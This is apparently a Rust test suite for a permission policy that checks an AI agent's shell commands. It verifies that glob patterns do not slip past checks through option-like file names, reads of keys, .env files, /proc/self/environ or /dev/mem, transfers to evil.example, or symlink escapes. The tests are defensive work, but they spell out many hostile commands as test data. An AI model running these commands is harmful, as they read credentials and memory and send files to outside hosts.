//! What a pattern of the shell finds: options, secrets, places on other machines.

use std::fs;
use std::os::unix::fs::symlink;

use countersign_core::policy::Effect;

use crate::house::{House, own, started, tried, tried_in_both, verdict};
use crate::verdicts;

#[test]
fn a_pattern_is_asked_about_where_it_finds_an_option_and_nowhere_else() {
    let house = House::new("patterns");
    let [plain, hostile] = ["plain", "hostile"].map(|name| {
        let folder = house.root.join("project").join(name);
        fs::create_dir_all(&folder).unwrap();
        fs::write(folder.join("a.txt"), "x").unwrap();
        folder
    });
    fs::write(hostile.join("-aR"), "").unwrap();
    fs::write(hostile.join("@list"), "").unwrap();
    let mut wrong = Vec::new();
    for (line, in_plain, in_hostile) in [
        ("grep . *", true, false),
        ("grep -n x *", true, false),
        ("grep x *.txt", true, true),
        ("grep x ./*", true, true),
        ("grep x -- *", true, true),
        ("grep x [a-z]*", true, true),
        ("grep x [^b]*", true, false),
        ("grep x ?aR", true, false),
        ("ls *", true, false),
        ("wc -l *", true, false),
        ("sort *.txt", true, true),
        ("strings *", true, false),
        ("strings -- *", true, false),
        ("strings ./*", true, true),
        ("for f in *; do strings \"$f\"; done", true, false),
        ("ls; git status && grep x *", true, false),
        ("touch ./-aR; grep x *", false, false),
        ("npm test; grep x *", false, false),
    ] {
        for (folder, expected) in [(&plain, in_plain), (&hostile, in_hostile)] {
            let folder = folder.to_str().unwrap();
            let policy = verdicts::policy("developer", folder, &house.at("home"));
            let (effect, reason) = verdict(&policy, "bash", line);
            if (effect == Effect::Allow) != expected {
                wrong.push(format!("{line} in {folder}: {effect:?}: {reason}"));
            }
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn what_a_pattern_finds_is_as_secret_as_what_is_spelled_out() {
    let house = House::new("wildcards");
    for file in [
        "ops/id_rsa",
        "ops/prod.env",
        "ops/terraform.tfstate",
        "ops/credentials.json",
        "deploy/a/x.pem",
        ".codex/auth.json",
        "plain/a.txt",
        "plain/b.txt",
    ] {
        house.put(&format!("project/{file}"), "SECRET");
    }
    house.put("home/.ssh/config", "SECRET");
    tried_in_both(
        &house,
        &[
            "cat server.k??",
            "cat serv*",
            "cat *",
            "head -50 *",
            "grep -n SECRET *",
            "cat ops/*",
            "cat ops/i*",
            "cat ops/*env",
            "cat ops/prod.*",
            "cat ops/c*",
            "cat ops/*.json",
            "sort ops/terra*",
            "cat o*/*",
            "cat deploy/*/*",
            "cat .codex/*",
            "cat .git/conf*",
            "cat .git/?onfig",
            "head .git/*",
            "cat keys/c*",
            "cd ops && cat *",
            "for f in ops/*; do cat \"$f\"; done",
            "cat < ops/i*",
            "cat /roo?/x",
            "cat /r*/.profile",
            "cat /proc/1/mem",
            "xxd -s 1 -l 4096 /proc/1/mem",
            "cat /proc/1/envir*",
            "for p in 1 2; do cat /proc/$p/mem; done",
            "cat /proc/kcore",
            "cat /dev/mem",
            "head -c 512 /dev/sda",
            "cat /dev/tty1",
            "cat /dev/mapper/x",
            "cat .git/modules/m/config",
        ],
        &["cat plain/*", "cat pl*/a*", "ls ops/*", "grep -n x plain/*.txt", "wc -l src/*.rs"],
    );
    // What a process holds it holds by its own name, too.
    let all = own(r#"{"effect":"allow","commands":["cat","cd"]}"#);
    tried(
        &started(&house, &all, "project"),
        &[
            "cat /proc/self/environ",
            "cat /proc/1/env*",
            "cat /proc/self/env*",
            "cat /proc/thread-self/m?m",
            "cat /DEV/mem",
        ],
        &["cat plain/*", "cat /dev/null"],
    );
}

#[test]
fn a_name_that_is_a_place_on_another_machine_is_met_by_a_pattern() {
    let house = House::new("hosts");
    for folder in ["project/t", "project/plain"] {
        fs::create_dir_all(house.root.join(folder)).unwrap();
    }
    house.put("project/plain/a.tgz", "");
    house.put("project/t/u@evil.example:a.tgz", "");
    for name in ["read-only", "developer"] {
        tried(
            &started(&house, name, "project/t"),
            &[
                "tar -tf *.tgz",
                "tar tf *",
                "for f in *.tgz; do tar tf \"$f\"; done",
                "tar -tf \"$(ls)\"",
            ],
            &["tar -tf ./*.tgz"],
        );
        tried(
            &started(&house, name, "project"),
            &["cd t; tar -tf *.tgz", "tar -tf u@evil.example:a.tgz"],
            &["tar -tf plain/*.tgz", "tar -tf *.tgz"],
        );
    }
}

#[test]
fn a_pattern_that_finds_nothing_is_its_own_text_and_may_name_another_machine() {
    let house = House::new("own-text");
    house.put("project/plain/a.tgz", "");
    for name in ["read-only", "developer"] {
        tried(
            &started(&house, name, "project"),
            &[
                "tar tf us?r@evil.example:x",
                "tar tf *@evil.example:x",
                "tar tf [r]oot@evil.example:x",
                "tar -tf r?@evil.example:x",
                "tar -tfr?@evil.example:x",
                "tar --list --file=r?@evil.example:x",
                "tar tf a?b.evil.example:x",
                "tar tf x@evil.example:*",
                "cd plain && tar tf ?.evil.example:a",
                "cd $x; tar tf ?.evil.example:a",
                "for f in ?.evil.example:a; do tar tf \"$f\"; done",
                "for f in ?.evil.example:a; do tar tf $f; done",
                "f='?.evil.example:a'; tar tf $f",
                "f=?.evil.example:a; tar tf $f",
                "set -- ?.evil.example:a; tar tf $1",
                "tar tf {?,b}.evil.example:a",
                "find . -name x -exec tar tf ?.evil.example:{} +",
                "timeout 5 tar tf us?r@evil.example:x",
                "echo x | xargs tar tf us?r@evil.example:x",
            ],
            &["tar -tf plain/*.tgz", "tar -tf *.tgz", "cat plain/*", "grep -n x src/*.rs"],
        );
    }
    let fetches = own(
        r#"{"effect":"allow","commands":["git","rsync","scp","curl"],"writes":["**"]},{"effect":"deny","urls":["evil.example"]}"#,
    );
    house.put("project/evil.example:x", "");
    tried(
        &started(&house, &fetches, "project"),
        &[
            "git clone us?r@evil.example:x",
            "git clone ssh://us?r@evil.example/x",
            "curl https://evil.example/?*",
            "scp a.c us?r@evil.example:x",
            "scp a.c 'us?r@evil.example:x'",
            "scp a.c 'us#r@evil.example:x'",
            "scp a.c evil.ex?mple:x",
            "scp a.c *x",
            "rsync a.c \"$x\"",
        ],
        &[],
    );
}

#[test]
#[cfg(target_os = "linux")]
fn a_name_that_is_no_text_is_as_secret_as_its_ending_says() {
    use std::ffi::OsStr;
    use std::os::unix::ffi::OsStrExt as _;
    let house = House::new("garbled");
    for name in [&b"d\xe9.key"[..], b"d\xe2\x82.pem", b"\xe9.txt"] {
        for folder in ["project/l", "project/l/sub"] {
            let folder = house.root.join(folder);
            fs::create_dir_all(&folder).unwrap();
            fs::write(folder.join(OsStr::from_bytes(name)), "SECRET").unwrap();
        }
    }
    let plain = house.root.join("project/plain");
    fs::create_dir_all(&plain).unwrap();
    fs::write(plain.join(OsStr::from_bytes(b"\xe9.txt")), "x").unwrap();
    let denied = own(
        r#"{"effect":"allow","commands":["cat","rg","ag","grep","head","find","rm"]},{"effect":"deny","reads":["**/*.key","**/*.pem"]}"#,
    );
    for name in ["read-only", "developer", denied.as_str()] {
        tried(
            &started(&house, name, "project/l"),
            &[
                "cat *",
                "cat d??.pem",
                "cat ?.key",
                "cat d[!a].key",
                "for f in *; do cat \"$f\"; done",
                "rg SECRET d*",
                "rg SECRET",
                "rg -g 'd*' SECRET",
                "rg -g '*.key' SECRET",
                "grep -r SECRET .",
                "grep -r --include='d*' SECRET .",
                "grep -r --exclude='d\u{fffd}.key' --exclude='*.pem' SECRET .",
                "ag SECRET",
                "grep SECRET sub/*",
                "head -5 s*/*y",
                "find . -type f -name '*y' -exec cat {} +",
            ],
            &[],
        );
        let plain = ["grep -r x .", "rg x", "head *.txt", "cat *"];
        // What a pattern could find a deny speaks of.
        let known = if name == denied { &plain[..3] } else { &plain[..] };
        tried(&started(&house, name, "project/plain"), &[], known);
    }
}

#[test]
fn a_pattern_finds_a_name_by_its_characters_and_by_its_bytes() {
    let house = House::new("bytes");
    for name in ["g\u{e9}.key", "\u{65e5}\u{672c}.txt"] {
        house.put(&format!("project/l/{name}"), "SECRET");
    }
    // `?` is a byte to a shell whose locale is C.
    for name in ["read-only", "developer"] {
        tried(
            &started(&house, name, "project/l"),
            &["cat g?.k??", "cat g??.k??", "cat g[!a]?.k*", "cat ./g??*", "cat g\u{e9}.k??"],
            &["cat g???.k??", "cat \u{65e5}*", "cat ??????.t*", "cat *.txt"],
        );
    }
}

#[test]
fn an_option_that_no_table_has_is_met_by_a_pattern_too() {
    let house = House::new("unknown-options");
    let folder = house.root.join("project/packed");
    fs::create_dir_all(&folder).unwrap();
    for name in ["a.gz", "-rf", "--files=list"] {
        fs::write(folder.join(name), "").unwrap();
    }
    for name in ["read-only", "developer"] {
        tried(
            &started(&house, name, "project/packed"),
            &["zcat *", "xzcat *", "bzcat *", "gzcat ?rf *", "zcat -rf .", "tac *", "cut -c1 *"],
            &["zcat *.gz", "zcat -- *", "zcat ./*", "xzcat [a-z]*"],
        );
    }
}

#[test]
#[ignore = "long: npm run test:all"]
fn what_a_pattern_finds_is_written_like_names_that_are_spelled_out() {
    let house = House::new("written");
    for file in ["project/code/a.ts", "project/code/b.ts", "project/a.sh", "project/docs/x.md"] {
        house.put(file, "x");
    }
    // prettier keeps its cache by the nearest package.
    house.put("project/package.json", "{}");
    house.put("project/code/m.ini", "[x]");
    house.put("project/code/a.py", "");
    for folder in ["project/li", "project/lo.d/in", "project/--x"] {
        fs::create_dir_all(house.root.join(folder)).unwrap();
    }
    house.put("project/li/a.ts", "x");
    symlink("../../out/victim.txt", house.root.join("project/li/b.ts")).unwrap();
    symlink("../../../out", house.root.join("project/lo.d/in/l")).unwrap();
    let developer = started(&house, "developer", "project");
    tried(
        &developer,
        &[
            // What it finds leads out.
            "sed -i 's/a/b/' li/*.ts",
            "touch li/*.ts",
            "chmod +x li/?.ts",
            "prettier --write li/*.ts",
            "for f in li/*.ts; do prettier --write \"$f\"; done",
            "cd li && touch *.ts",
            "touch ol/*.txt",
            "touch o*/victim.txt",
            "touch */victim.txt",
            "touch code/../../out/*.txt",
            "touch ../out/*.txt",
            "cp code/*.ts ol/",
            "touch lo.d/*/l/v",
            // Some shells go deeper.
            "touch lo.d/**/v",
            "touch **/*.ts",
            // Links that the line makes.
            "ln -s ../../out/victim.txt code/c.ts && touch code/*.ts",
            "for i in 1 2; do touch code/*.ts; ln -s ../../out/x code/c.ts; done",
            // What it finds may be options, or is protected.
            "touch *",
            "touch ./*",
            "touch .e*",
            "sed -i s/a/b/ .en?",
            "touch .git/*",
            "touch $x/*.ts",
            // The first that it finds is the value of the option, the next is written.
            "touch -r li/*.ts code/a.ts",
            "touch -r ../out/* code/a.ts",
            "sed -i s/a/b/ ./*.key",
            "sed -i s/a/b/ ../out/*",
            "echo x | tee li/*.ts",
            "cd $x; touch *.ts",
            // It may find settings that the line goes on to read.
            "sed -i 's/a/b/' code/*.ini && mypy code/a.py",
            "sed -i 's/a/b/' code/m* && mypy code/a.py",
        ],
        &[
            "sed -i 's/a/b/' code/*.ts && mypy code/a.py",
            "sed -i 's/a/b/' code/*.ts",
            "touch code/*.ts",
            "touch code/?.ts",
            "touch code/*.none",
            "prettier --write code/*.ts",
            "gofmt -w code/*.go",
            "cp code/*.ts docs/",
            "chmod +x code/*.ts",
            "cd code && touch ./*.ts",
            "for f in code/*.ts; do prettier --write \"$f\"; done",
            "touch code/c.ts && prettier --write code/*.ts",
        ],
    );
    let own = own(
        r#"{"effect":"allow","commands":["touch"]},{"effect":"deny","writes":["**/b.ts"]},{"effect":"ask","writes":["/**","!${project}/**"]}"#,
    );
    tried(
        &started(&house, &own, "project"),
        &["touch code/*.ts", "touch ../*"],
        &["touch code/a*"],
    );
    for at in 0..5000 {
        house.put(&format!("project/many/{at}.ts"), "");
    }
    let (effect, reason) = verdict(&developer, "bash", "touch many/*.ts");
    assert_eq!(effect, Effect::Ask, "{reason}");
    assert!(reason.contains("too many names"), "{reason}");
}

#[test]
fn what_grep_counts_in_one_file_is_a_number() {
    let house = House::new("counts");
    let policy = started(&house, "read-only", "project");
    tried(
        &policy,
        &[
            // The names of files, and what is wrong, are no numbers.
            "count=$(grep -c x list src/c); echo $((count+1))",
            "count=$(grep -cH x list); echo $((count+1))",
            "count=$(grep -rc x src); echo $((count+1))",
            "count=$(grep -c x *); echo $((count+1))",
            "count=$(grep -c x list 2>&1); echo $((count+1))",
            "count=$(grep x list); echo $((count+1))",
            "count=$(grep -n x list); echo $((count+1))",
            "count=$(grep -c -e x list src/c); echo $((count+1))",
            "count=$(grep --count --with-filename x list); echo $((count+1))",
            "count=$(grep -c x list src/c -h | cat); echo $((count+1))",
            "count=$(grep x -c list); echo $((count+1))",
            "[[ $(grep -cH x list) -gt 0 ]]",
        ],
        &[
            "count=$(grep -c x list); echo $((count+1))",
            "count=$(grep -ci x < list); echo $((count+1))",
            "count=$(cat list | grep -c -v x); echo $((count+1))",
            "[[ $(grep -c x list) -gt 0 ]]",
        ],
    );
}

#[test]
fn a_name_with_the_letters_of_a_pattern_leads_a_formatter_out_by_a_symlink() {
    let house = House::new("literal-names");
    house.put("out/fo/v.py", "x");
    for link in ["[l]", "{l,m}", "{l}", "l(o)"] {
        symlink("../out/fo", house.root.join("project").join(link)).unwrap();
    }
    symlink("../../out/fo/v.py", house.root.join("project/src/[v].py")).unwrap();
    house.put("project/app/[id]/v.py", "x");
    let asked = [
        "black '[l]/v.py'",
        "black '{l,m}/v.py'",
        "black '{l}/v.py'",
        "black 'l(o)/v.py'",
        "black 'src/[v].py'",
        "ruff format '{l,m}/v.py'",
        "isort '{l,m}/v.py'",
    ];
    tried(&started(&house, "developer", "project"), &asked, &["black 'app/[id]/v.py'"]);
    let denied =
        r#"{"version":1,"default":"allow","rule":[{"effect":"deny","writes":["**/out/**"]}]}"#;
    for line in asked {
        let (effect, reason) = verdict(&started(&house, denied, "project"), "bash", line);
        assert_eq!(effect, Effect::Deny, "{line}: {reason}");
    }
}
